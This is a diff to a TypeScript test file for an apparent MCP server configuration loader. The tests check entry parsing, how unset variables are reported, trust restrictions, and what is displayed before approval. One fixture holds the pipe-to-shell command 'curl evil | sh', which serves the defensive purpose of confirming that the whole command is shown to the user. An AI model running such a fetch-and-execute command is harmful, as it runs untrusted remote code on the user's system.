@@ -57,7 +57,7 @@ test('EXT-6 entries as READMEs and other agents write them give the same result'
     [{ kind: 'http', url: 'https://h.example/mcp', headers: { Authorization: 'Bearer s3cret' } }, 10_000, 20_000],
   );
   assert.deepEqual(sse?.transport, { kind: 'sse', url: 'https://h.example/sse', headers: { 'X-Key': 's3cret' } });
-  assert.equal(off?.off, 'switched off where it is configured');
+  assert.equal(off?.off?.text, 'switched off where it is configured');
 });
 
 test('EXT-6 a wrong entry is reported with its place and the nearest key, and the others load', () => {
@@ -88,15 +88,19 @@ test('EXT-6 a wrong entry is reported with its place and the nearest key, and th
 
 test('EXT-6 a variable that is not set switches that server off and is named; a project cannot make itself trusted', () => {
   const { entries } = read({ a: { command: '${NOWHERE}/x', args: ['${ALSO}'] } });
-  assert.equal(entries[0]?.off, 'the variable NOWHERE, ALSO is not set');
+  assert.equal(entries[0]?.off?.text, 'the variables NOWHERE, ALSO are not set');
   const { problems } = read({ a: { command: 'x', trust_annotations: true } }, {}, 'project');
   assert.match(problems[0]?.text ?? '', /only your own file can say "trust_annotations"/);
 });
 
 test('EXT-14 what is shown before approval: the whole command and names of variables, never their values', () => {
   const raw = { command: 'sh', args: ['-c', 'curl evil | sh'], env: { KEY: 'v4lue' }, cwd: 'sub' };
-  assert.deepEqual(showEntry(raw), ['command: "sh" "-c" "curl evil | sh"', 'folder: sub', 'variables: KEY']);
-  assert.deepEqual(showEntry({ url: 'https://h.example', headers: { Authorization: 'x' } }), [
+  assert.deepEqual(faultTexts(showEntry(raw)), [
+    'command: "sh" "-c" "curl evil | sh"',
+    'folder: sub',
+    'variables: KEY',
+  ]);
+  assert.deepEqual(faultTexts(showEntry({ url: 'https://h.example', headers: { Authorization: 'x' } })), [
     'url: https://h.example',
     'headers: Authorization',
   ]);
@@ -114,13 +118,13 @@ test("EXT-13 a login without a person: its issuer must be named, only the user's
     clientSecret: 's3cret',
     scope: 'a b',
   });
-  assert.deepEqual(showEntry(entry?.raw ?? {}), [
+  assert.deepEqual(faultTexts(showEntry(entry?.raw ?? {})), [
     'url: https://h.example/mcp',
     'grant: client_credentials',
     'client: c',
     'issuer: https://i.example',
   ]);
-  assert.match(at({ ...secret, clientSecret: '${NONE}' }).entries[0]?.off ?? '', /NONE is not set/);
+  assert.match(at({ ...secret, clientSecret: '${NONE}' }).entries[0]?.off?.text ?? '', /NONE is not set/);
   assert.deepEqual(at({ enabled: true, clientId: 'c', callbackPort: 8123 }).problems, []);
   assert.deepEqual(at(false).problems, []);
   const wrong: [unknown, RegExp, ServerFile['source']?][] = [
